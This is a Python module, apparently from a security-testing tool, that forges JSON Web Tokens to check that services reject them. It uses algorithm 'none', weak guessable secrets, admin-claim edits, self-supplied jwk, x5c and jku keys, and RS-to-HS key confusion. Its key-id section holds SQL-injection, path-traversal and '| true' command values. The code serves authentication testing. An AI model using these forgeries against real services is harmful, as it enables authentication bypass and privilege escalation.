"""JSON Web Tokens forged without their key: each way gives a token that no service may take.

After RFC 7515, RFC 7519, RFC 8725 and the attacks that are known of libraries.
"""

import re
from base64 import urlsafe_b64encode
from collections.abc import Callable, Mapping, Sequence
from random import Random
from typing import Any

import msgspec

from mutators._spoils import Spoil
from shadow.auth.encoding import encode
from shadow.auth.jwt import Jwt, read_jwt, signed_jwt, unsigned_jwt
from shadow.auth.nobody import Nobody, nobody_for
from shadow.auth.public_keys import as_secrets, of_certificate, published
from shadow.model import Known
from shadow.model.signing import TellsPublicKeys

type Forged = tuple[bytes, str] | None
"""The token to send, and what was done."""
type Forge = Callable[[Jwt, Random], Forged]

WEAK_SECRETS = (
    *(b"", b"secret", b"password", b"changeme", b"your-256-bit-secret", b"key", b"jwt", b"test", b"admin"),
    *(b"123456", b"secretkey", b"jwt_secret", b"supersecret", b"s3cr3t", b"default", b"dev", b"qwerty"),
    *(
        b"my-secret",
        b"your-secret-key",
        b"your_jwt_secret",
        b"shhhhh",
        b"keyboard cat",
        b"null",
        b"undefined",
    ),
    *(b"0", b"token", b"access_token", b"example", b"notasecret", b"mysecret", b"your-384-bit-secret"),
    *(
        b"your-512-bit-secret",
        b"GQDstcKsx0NHjPOuXOYg5MbeJ1XT0uFiwDVvVBrk",
        b"a-string-secret-at-least-256-bits-long",
    ),
)
"""What keys of tokens are called in tutorials and left as in services."""

_TOKEN = re.compile(rb"eyJ[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*")
_FAR = 4_102_444_800
"""In the year 2100."""
_MAX_SEARCHED = 64
_KEY_NAMES = frozenset({"kid", "jwk", "jku", "x5c", "x5u", "x5t", "x5t#S256"})
"""Parameters of a token's header that tell of its key (RFC 7515 §4.1)."""


def token_in(value: bytes) -> tuple[int, int, Jwt] | None:
    """Where in a field's value a signed token stands, and the token; None where there is none."""
    found = _TOKEN.search(value)
    token = read_jwt(found[0]) if found else None
    return None if found is None or token is None else (found.start(), found.end(), token)


def forging(forge: Forge) -> Spoil:
    """The spoil that forges the token in a field's value and leaves the rest of it."""

    def spoil(_name: bytes, value: bytes, rng: Random) -> tuple[bytes, str] | None:
        found = token_in(value)
        made = forge(found[2], rng) if found is not None else None
        if found is None or made is None:
            return None
        return value[: found[0]] + made[0] + value[found[1] :], made[1]

    return spoil


def algorithm_none(token: Jwt, rng: Random) -> Forged:
    """Unsecured (RFC 8725 §3.2), in all the spellings that filters have missed."""
    if not token.signature:
        return None
    word = rng.choice(("none", "none", "None", "NONE", "nOnE", " none", "none ", "", None))
    bare = unsigned_jwt({**token.header, "alg": word}, token.claims)
    if rng.random() < 0.25:
        return bare._replace(signature=token.signature).text(), f"put algorithm {word!r}, kept the signature"
    return bare.text(), f"put algorithm {word!r} and no signature"


def algorithm_missing(token: Jwt, _rng: Random) -> Forged:
    """``alg`` must be there (RFC 7515 §4.1.1)."""
    if not token.signature or "alg" not in token.header:
        return None
    header = {name: value for name, value in token.header.items() if name != "alg"}
    return unsigned_jwt(header, token.claims).text(), "left out the algorithm and the signature"


def signature_stripped(token: Jwt, rng: Random) -> Forged:
    """A stated algorithm and no signature of it (RFC 7515 §5.2)."""
    if not token.signature:
        return None
    bare = token._replace(signature=b"")
    return rng.choice((bare.text(), bare.signing_input)), "stripped the token's signature"


def signature_flipped(token: Jwt, rng: Random) -> Forged:
    """One wrong bit (RFC 7515 §5.2)."""
    if len(token.signature) < 2:
        return None
    at = rng.randrange(len(token.signature) - 1)  # the last character may have unused bits
    other = b"B" if token.signature[at : at + 1] == b"A" else b"A"
    signature = token.signature[:at] + other + token.signature[at + 1 :]
    return token._replace(signature=signature).text(), f"changed character {at} of the token's signature"


def signature_zeroed(token: Jwt, _rng: Random) -> Forged:
    """r = s = 0, which a verifier without range checks took for anything (CVE-2022-21449)."""
    zeros = b"A" * len(token.signature)
    if len(zeros) < 8 or zeros == token.signature:
        return None
    return token._replace(signature=zeros).text(), "set the token's signature to zero"


def signature_of_other_token(token: Jwt, rng: Random, others: Sequence[bytes]) -> Forged:
    """A signature that is valid, of another token (RFC 7515 §5.2)."""
    signatures = [one.rpartition(b".")[2] for one in others if token.signing_input + b"." not in one]
    taken = [one for one in dict.fromkeys(signatures) if one and one != token.signature]
    if not taken:
        return None
    return token._replace(signature=rng.choice(taken)).text(), "took the signature of another recorded token"


def claims_edited(token: Jwt, rng: Random) -> Forged:
    """Claims under the signature of others (RFC 7515 §5.2)."""
    edits = (
        *(("admin", True), ("role", "admin"), ("roles", ["admin"]), ("scope", "*"), ("exp", _FAR)),
        *(("sub", "0"), ("sub", "admin"), ("iss", "https://other.invalid"), ("aud", "other"), ("nbf", 0)),
        *(("iat", 0), ("permissions", ["*"]), ("is_admin", True), ("tenant", "0"), ("email_verified", True)),
    )
    claim, content = rng.choice([(name, new) for name, new in edits if token.claims.get(name) != new])
    forged = unsigned_jwt(token.header, {**token.claims, claim: content})
    return (
        forged._replace(signature=token.signature).text(),
        f"changed the claim {claim!r} under its signature",
    )


def claim_dropped(token: Jwt, rng: Random) -> Forged:
    """Without its expiry it would last for ever (RFC 7515 §5.2)."""
    if not token.claims:
        return None
    gone = "exp" if "exp" in token.claims and rng.random() < 0.5 else rng.choice(sorted(token.claims))
    claims = {name: value for name, value in token.claims.items() if name != gone}
    forged = unsigned_jwt(token.header, claims)._replace(signature=token.signature)
    return forged.text(), f"dropped the claim {gone!r} under its signature"


def claim_doubled(token: Jwt, _rng: Random) -> Forged:
    """A second value for one name (RFC 7519 §4), under a signature of the first alone."""
    text = msgspec.json.encode(token.claims)
    if not text.startswith(b'{"'):
        return None
    doubled = text[:-1] + b',"sub":"admin","role":"admin","exp":4102444800}'
    head = token.signing_input.partition(b".")[0]
    return head + b"." + encode(doubled, "base64url") + b"." + token.signature, "said claims a second time"


def header_edited(token: Jwt, rng: Random) -> Forged:
    """The header is signed too (RFC 7515 §5.1)."""
    edits = (
        ("typ", "at+jwt"),
        ("cty", "JWT"),
        ("crit", ["exp"]),
        ("zip", "DEF"),
        ("b64", False),
        ("kid", "x"),
    )
    name, value = rng.choice([pair for pair in edits if token.header.get(pair[0]) != pair[1]])
    forged = unsigned_jwt({**token.header, name: value}, token.claims)._replace(signature=token.signature)
    return forged.text(), f"set {name!r} in the header under its signature"


def parts_added(token: Jwt, rng: Random) -> Forged:
    """A compact JWS has exactly two periods (RFC 7515 §7.1); a verifier that reads on to the third has still
    verified what it took."""
    text, nothing = token.text(), encode(rng.randbytes(16), "base64url")
    forms = (
        text + b".",
        text + b"." + nothing,
        b"." + text,
        text.replace(b".", b"..", 1),
        b".".join((*text.split(b"."), nothing, nothing)),
        token.signing_input.partition(b".")[0] + b"...." + token.signature,
    )
    return rng.choice(forms), "gave the token other parts"


def looks_encrypted(token: Jwt, rng: Random) -> Forged:
    """Whatever anybody may encrypt is no proof of who did (RFC 8725 §3.2, §3.11): a JWE that holds an
    unsecured token."""
    header = {"alg": "dir", "enc": "A256GCM", "cty": "JWT"}
    parts = [encode(msgspec.json.encode(header), "base64url"), b""]
    inner = unsigned_jwt({"alg": "none"}, token.claims).text()
    parts += [encode(rng.randbytes(12), "base64url"), encode(inner, "base64url")]
    return b".".join((*parts, encode(rng.randbytes(16), "base64url"))), "wrapped it as if it were encrypted"


def weak_secret(token: Jwt, rng: Random) -> Forged:
    """A secret that anybody may guess (RFC 8725 §3.5)."""
    secret = rng.choice(WEAK_SECRETS)
    stated = str(token.header.get("alg"))
    algorithm = stated if stated in ("HS384", "HS512") else "HS256"
    forged = signed_jwt({**token.header, "alg": algorithm}, token.claims, secret)
    return None if forged is None else (forged.text(), f"signed the token with the secret {secret!r}")


def own_key_inside(token: Jwt, _rng: Random) -> Forged:
    """A key that the token brings (CVE-2018-0114, RFC 8725 §3.10)."""
    own = nobody_for(str(token.header.get("alg")))
    header = _without_key(token.header) | {"alg": own.algorithm, "jwk": own.jwk}
    return _signed(header, token.claims, own), "signed the token with a key that it brings along"


def own_certificate(token: Jwt, _rng: Random) -> Forged:
    """A certificate that the token brings, and nobody vouches for (RFC 7515 §4.1.6, RFC 8725 §3.10)."""
    own = nobody_for(str(token.header.get("alg")))
    if not own.certificate:
        return None
    header = _without_key(token.header) | {"alg": own.algorithm, "x5c": [own.certificate]}
    return _signed(header, token.claims, own), "signed the token with a certificate that it brings along"


def own_key_elsewhere(token: Jwt, rng: Random) -> Forged:
    """A key at an address that the token names (RFC 8725 §3.10); the address never answers (RFC 2606 §2)."""
    own = nobody_for(str(token.header.get("alg")))
    name, address = rng.choice(
        (("jku", "https://keys.invalid/jwks.json"), ("x5u", "https://keys.invalid/x509.pem"))
    )
    header = _without_key(token.header) | {"alg": own.algorithm, name: address}
    return _signed(header, token.claims, own), f"signed the token with a key at an address in {name!r}"


def key_id_of_empty_file(token: Jwt, _rng: Random) -> Forged:
    """A key id is no path (RFC 8725 §3.10, CWE-22)."""
    return _with_key_id(token, "../../../../../../dev/null", b"", "named an empty file as the token's key")


def key_id_injected(token: Jwt, rng: Random) -> Forged:
    """A key id is looked up, not run (RFC 8725 §3.10, CWE-89, CWE-78)."""
    kid, secret = rng.choice(
        (
            ("x' UNION SELECT 'key' -- ", b"key"),
            ("x' UNION SELECT '' -- ", b""),
            ("x\0", b""),
            ("", b""),
            ("/proc/sys/kernel/randomize_va_space", b"2\n"),
            ("file:///dev/null", b""),
            ("| true", b""),
            ("null", b""),
            ("0", b""),
        )
    )
    return _with_key_id(token, kid, secret, f"made the key id {kid!r}")


def key_id_of_wrong_type(token: Jwt, rng: Random) -> Forged:
    """A key id is a string (RFC 7515 §4.1.4); nothing is found under a list."""
    kid: Any = rng.choice(([], {}, 0, None, True, [["0"]]))
    return _with_key_id(token, kid, b"", f"made the key id {kid!r}")


def key_confused(token: Jwt, rng: Random, public: Sequence[bytes]) -> Forged:
    """A public key is no secret: RS256 must not become HS256 (CVE-2015-9256, RFC 8725 §3.1)."""
    if not public or str(token.header.get("alg"))[:2] not in ("RS", "PS", "ES"):
        return None
    forged = signed_jwt({**token.header, "alg": "HS256"}, token.claims, rng.choice(public))
    return None if forged is None else (forged.text(), "signed the token with the public key as a secret")


FORGERIES: Mapping[str, Forge] = {
    "none": algorithm_none,
    "no algorithm": algorithm_missing,
    "stripped": signature_stripped,
    "flipped": signature_flipped,
    "zeroed": signature_zeroed,
    "claims": claims_edited,
    "claim dropped": claim_dropped,
    "claim doubled": claim_doubled,
    "header": header_edited,
    "encrypted": looks_encrypted,
    "weak secret": weak_secret,
    "jwk": own_key_inside,
    "x5c": own_certificate,
    "jku": own_key_elsewhere,
    "kid of a file": key_id_of_empty_file,
    "kid injected": key_id_injected,
    "kid of another type": key_id_of_wrong_type,
}
"""All that need no more than the token."""


def public_texts(token: Jwt, known: Known) -> tuple[bytes, ...]:
    """The forms of every public key that the token, the settings or recorded answers tell."""
    keys = [
        key
        for other in known.others[-_MAX_SEARCHED:]
        if other.response
        for key in published(other.response.body)
    ]
    brought = token.header.get("x5c")
    certificate = of_certificate(str(brought[0])) if isinstance(brought, list) and brought else None
    keys += [] if certificate is None else [certificate]
    signer: object = known.signer
    of_settings = signer.public_keys() if isinstance(signer, TellsPublicKeys) else ()
    return (*of_settings, *(text for key in keys for text in as_secrets(key)))


def recorded_tokens(known: Known) -> list[bytes]:
    """Every signed token in the credentials of recorded requests, each once, oldest first."""
    found: dict[bytes, None] = {}
    for other in known.others[-_MAX_SEARCHED:]:
        for name, value in other.request.headers:
            if name.lower() in (b"authorization", b"cookie") and (seen := _TOKEN.search(value)):
                found[seen[0]] = None
    return list(found)


def _with_key_id(token: Jwt, kid: Any, secret: bytes, what: str) -> Forged:
    forged = signed_jwt({**token.header, "alg": "HS256", "kid": kid}, token.claims, secret)
    return None if forged is None else (forged.text(), what)


def _signed(header: dict[str, Any], claims: dict[str, Any], own: Nobody) -> bytes:
    forged = unsigned_jwt(header, claims)
    signature = own.key.sign(forged.signing_input)
    return forged._replace(signature=urlsafe_b64encode(signature).rstrip(b"=")).text()


def _without_key(header: dict[str, Any]) -> dict[str, Any]:
    """A header without what names a key: the one that it brings is to be taken."""
    return {
        name: value
        for name, value in header.items()
        if name not in ("kid", "jwk", "jku", "x5c", "x5u", "x5t")
    }
